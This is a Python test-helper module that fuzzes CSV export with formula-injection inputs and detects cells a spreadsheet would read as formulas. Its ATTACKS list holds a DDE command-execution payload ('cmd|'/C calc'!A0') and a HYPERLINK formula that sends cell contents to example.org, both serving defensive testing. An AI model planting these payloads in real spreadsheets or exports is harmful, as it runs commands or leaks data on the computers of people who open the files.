"""Texts that somebody might write where a name, a note or a comment is expected, and how programs read tables with them."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

from hypothesis import strategies as st

SIGNS = "=+-@＝＋－＠"  # noqa: RUF001 - wide forms count too
STARTS = [
    *SIGNS,
    "\t",
    "\r",
    "\n",
    "\t=",
    "\r\n=",
    " =",
    "\u202e=",
    "\ufeff=",
    "\u200b+",
    '"=',
    "'=",
    "''=",
    ";=",
    "a;=",
    'a;"=',
    "a\n=",
    "a\t@",
]
FORMULAS = ["cmd|'/C calc'!A0", '1+HYPERLINK("http://example.org?"&A1)', "SUM(1,2)", "2"]
ATTACKS = [f"{start}{formula}" for start in STARTS for formula in FORMULAS] + [
    "a,b", 'a"b', '"', '""', "a\nb", "a\rb", "a\r\nb", "\r", "a\0b", "\0", "a\u202eb\u202c", "\u2066a\u2069", "a\u2028b",
    "\ud800", "a\udfffb", "=\ud800", "\ufeff", "", " ", "'", "'tis", "'-", "a;b", "김철수", "NULL", "nan", "1e5", "007",
]  # fmt: skip

HOSTILE = st.one_of(
    st.sampled_from(ATTACKS),
    st.text(st.sampled_from([*SIGNS, *" ;,\t\r\n'\"\0\u202e\ufeff\ud800ab1"]), max_size=8),
    st.text(st.characters(), max_size=20),
)
"""Known attacks, texts of nothing but what has a meaning somewhere, and any text at all, halves of letters included."""

_NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?")
_KINDS_UNSEEN = {"Cc", "Cf", "Zs", "Zl", "Zp"}


def kept(text: str) -> str:
    """What is left of a text in a table: no NUL, ends of lines as line feeds, halves of letters as escapes."""
    plain = text.replace("\0", "").replace("\r\n", "\n").replace("\r", "\n")
    return plain.encode("utf-8", "backslashreplace").decode("utf-8")


def rows_of(text: str, separator: str = ",") -> list[list[str]]:
    """Rows as a program reads them that parts cells at this sign."""
    return [row for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) if row]


def formulas_in(text: str) -> list[str]:
    """Cells that a spreadsheet might take for formulas, in whichever country it is opened: comma, semicolon or tab between."""
    read = {separator: [cell for row in rows_of(text, separator) for cell in row] for separator in ",;\t"}
    signed = [cell for cells in read.values() for cell in cells if _seen(cell)[:1] in {*SIGNS}]
    blank = [cell for cell in read[","] if cell[:1] in {"\t", "\r", "\n"}]
    return [cell for cell in signed + blank if not _NUMBER.fullmatch(cell)]


def _seen(cell: str) -> str:
    """A cell without what is not seen at its beginning."""
    place = next((at for at, letter in enumerate(cell) if unicodedata.category(letter) not in _KINDS_UNSEEN), len(cell))
    return cell[place:]
